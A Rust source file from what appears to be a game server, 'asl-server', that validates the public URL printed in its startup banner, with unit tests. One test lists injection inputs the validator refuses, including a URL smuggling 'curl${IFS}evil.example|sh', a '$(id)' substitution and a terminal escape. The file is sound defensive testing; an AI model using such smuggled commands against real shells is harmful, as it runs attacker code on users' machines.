//! What `asl-server` says when it starts: the addresses to hand to players and spectators —
//! the public URL an operator gives with `--public-url` when the server sits behind a reverse
//! proxy, so the links it prints are ones others can reach.

use protocol::wire::WATCH_PATH;

/// Why `--public-url` is not a URL players can be pointed at.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum PublicUrlError {
    #[error("--public-url {0}: give it as wss://HOST (or https://, ws://, http://)")]
    Scheme(String),
    #[error("--public-url {0}: no host in it")]
    NoHost(String),
    #[error(
        "--public-url {0}: players paste it into commands, so it is written in a URL's letters, digits and -_.:/[]%~@+, only, within {max} bytes",
        max = protocol::wire::PUBLIC_URL_BYTES_MAX
    )]
    Characters(String),
}

/// The public URL as the `asl` command takes it (`wss://asl.example.org`), from what the
/// operator gave: trailing slashes dropped, `https://` read as `wss://`, `http://` as `ws://`.
pub fn public_url(given: &str) -> Result<String, PublicUrlError> {
    let url = given.trim().trim_end_matches('/');
    let url = if let Some(rest) = url.strip_prefix("https://") {
        format!("wss://{rest}")
    } else if let Some(rest) = url.strip_prefix("http://") {
        format!("ws://{rest}")
    } else {
        url.to_string()
    };
    let host = url
        .strip_prefix("wss://")
        .or_else(|| url.strip_prefix("ws://"))
        .ok_or_else(|| PublicUrlError::Scheme(given.to_string()))?;
    if host.is_empty() || host.contains(char::is_whitespace) {
        return Err(PublicUrlError::NoHost(given.to_string()));
    }
    if !protocol::wire::is_public_url(&url) {
        return Err(PublicUrlError::Characters(given.escape_debug().to_string()));
    }
    Ok(url)
}

/// The lines printed once the server listens: where players point `asl` and where the
/// spectator page is. `public` (from [`public_url`]) wins over the local address.
pub fn banner(local: std::net::SocketAddr, public: Option<&str>) -> String {
    let ws = match public {
        Some(url) => url.to_string(),
        None => format!("ws://{local}"),
    };
    let http = if let Some(rest) = ws.strip_prefix("wss://") {
        format!("https://{rest}")
    } else {
        format!("http://{}", ws.trim_start_matches("ws://"))
    };
    format!(
        "asl-server listening on {local}\n  players:     asl --server {ws} …  (or ASL_SERVER={ws})\n  \
         spectators:  {http}{WATCH_PATH}#game=GAME&token=SPECTATOR_TOKEN"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn public_urls_read_as_websocket_addresses() {
        assert_eq!(
            public_url("https://asl.example.org/").unwrap(),
            "wss://asl.example.org"
        );
        assert_eq!(
            public_url("wss://asl.example.org").unwrap(),
            "wss://asl.example.org"
        );
        assert_eq!(public_url("http://h:8080").unwrap(), "ws://h:8080");
        assert!(public_url("asl.example.org").is_err());
        assert!(public_url("wss://").is_err());
        assert_eq!(
            public_url("https://[::1]:8443/asl").unwrap(),
            "wss://[::1]:8443/asl"
        );
    }

    /// The address goes into commands players paste into a shell: one that would run another
    /// command there, or drive the terminal, is refused at start, not sent to every client.
    #[test]
    fn a_public_url_holds_no_shell_or_control_characters() {
        for bad in [
            "wss://h;curl${IFS}evil.example|sh",
            "wss://h/$(id)",
            "wss://h/a'b",
            "wss://h/?a=1&b=2",
            "wss://h\u{1b}[2J",
        ] {
            let e = public_url(bad).unwrap_err();
            assert!(matches!(e, PublicUrlError::Characters(_)), "{bad}: {e}");
            assert!(!e.to_string().contains('\u{1b}'), "{e:?}");
        }
        let long = format!("wss://{}", "h".repeat(protocol::wire::PUBLIC_URL_BYTES_MAX));
        assert!(matches!(
            public_url(&long),
            Err(PublicUrlError::Characters(_))
        ));
    }

    #[test]
    fn the_banner_names_the_public_address() {
        let local = "127.0.0.1:7878".parse().unwrap();
        let b = banner(local, Some("wss://asl.example.org"));
        assert!(b.contains("asl --server wss://asl.example.org"), "{b}");
        assert!(b.contains("https://asl.example.org/watch#game="), "{b}");
        let b = banner(local, None);
        assert!(b.contains("ASL_SERVER=ws://127.0.0.1:7878"), "{b}");
        assert!(b.contains("http://127.0.0.1:7878/watch#"), "{b}");
    }
}
